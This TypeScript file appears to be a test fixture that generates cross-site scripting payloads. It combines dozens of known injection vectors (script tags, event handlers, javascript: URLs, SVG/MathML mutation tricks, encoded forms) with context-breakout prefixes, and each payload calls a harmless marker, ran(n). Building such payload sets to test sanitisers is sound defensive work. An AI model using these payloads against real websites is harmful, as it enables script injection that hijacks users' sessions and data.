// Hostile texts for XSS-1: known shapes of attacks, each inside the ways out of the places a text can stand in. Running one calls `ran(n)`.

/** What an attacker would like to happen; RUN stands for the call. */
const VECTORS = [
  '<script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script/x>RUN</script>',
  '<script\n>RUN</script>',
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN">',
  "<IMG SRC=x ONERROR='RUN'>",
  '<img/src/onerror=RUN>',
  '<img src="x:x" onerror=RUN //',
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributename=x dur=1s>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>go</text></a></svg>',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<math><mi//xlink:href="data:x,<script>RUN</script>">',
  '<body onload=RUN>',
  '<iframe onload=RUN>',
  '<iframe src="javascript:RUN">',
  '<iframe srcdoc="<img src=x onerror=RUN>">',
  '<object data="javascript:RUN">',
  '<embed src="javascript:RUN">',
  '<video><source onerror=RUN>',
  '<audio src=x onerror=RUN>',
  '<video src=x onerror=RUN autoplay>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>',
  '<marquee onstart=RUN>',
  '<div style="animation:x 1s" onanimationstart=RUN>',
  '<a href="javascript:RUN" autofocus tabindex=1 onfocus=RUN>x</a>',
  '<form><button formaction="javascript:RUN">x</button></form>',
  '<isindex action="javascript:RUN" type=image>',
  '<link rel=stylesheet href="javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href="javascript:RUN//">',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<style>@import "javascript:RUN";</style>',
  '<xss contenteditable autofocus onfocus=RUN>x</xss>',
  '<b onmouseover=RUN>b</b>',
  '<b><img src=x onerror=RUN></b>',
  '<i style=x:expression(RUN)>i</i>',
  '<u/onpointerenter=RUN>u</u>',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '%3Cscript%3ERUN%3C/script%3E',
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '<%= RUN %>',
  'javascript:RUN',
  'data:text/html,<script>RUN</script>',
  '* <img src=x onerror=RUN>',
  '<p id="</style><img src=x onerror=RUN>">',
  '<!--><img src=x onerror=RUN>-->',
  '<![CDATA[<img src=x onerror=RUN>]]>',
  '<?xml-stylesheet href="javascript:RUN"?>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
];

/** The ways out of an element, an attribute, a script, a comment, a title, a text area, a JSON string. */
const ESCAPES = ['', '">', "'>", '</script>', '</title>', '</textarea>', '-->', '"}]}</script>', '`);', '\u2028'];

export const PAYLOADS: readonly string[] = ESCAPES.flatMap((escape) => VECTORS.map((vector) => escape + vector)).map(
  (payload, n) => payload.replaceAll('RUN', `ran(${n})`),
);

/** The payloads that fit, repeated as often as needed: entry n is always the same. */
export function payloadFor(n: number, maxLength: number): string {
  const fitting = PAYLOADS.filter((payload) => payload.length <= maxLength);
  return fitting[n % fitting.length] ?? '';
}
